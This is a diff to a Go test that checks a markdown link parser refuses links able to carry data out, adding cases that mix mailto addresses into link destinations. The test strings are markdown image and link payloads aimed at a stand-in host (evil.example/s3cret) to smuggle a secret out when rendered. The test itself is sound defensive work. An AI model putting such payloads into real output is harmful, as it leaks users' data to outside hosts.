@@ -91,6 +91,8 @@ func TestNothingThatCarriesCanBeFollowed(t *testing.T) {
 		"a deep fence":              "1. a\n\n     ```\n![x](https://evil.example/s3cret)\n",
 		"a name for a fence":        "[x]:\n~~~\n![x](https://evil.example/s3cret)\n~~~",
 		"an angle bracket in it":    "[x]: " + read + "<s3cret://evil.example>",
+		"a tag in a destination":    "mailto:a@evil.com[ ](/<https://evil.example/s3cret>)",
+		"an address in a path":      "mailto:a@evil.com[ ](/https://evil.example/s3cret)",
 		"brackets by reference":     "[x]&colon;https://evil.example/s3cret",
 	} {
 		got, err := links.Whole(links.Markdown, onlyRead, text)
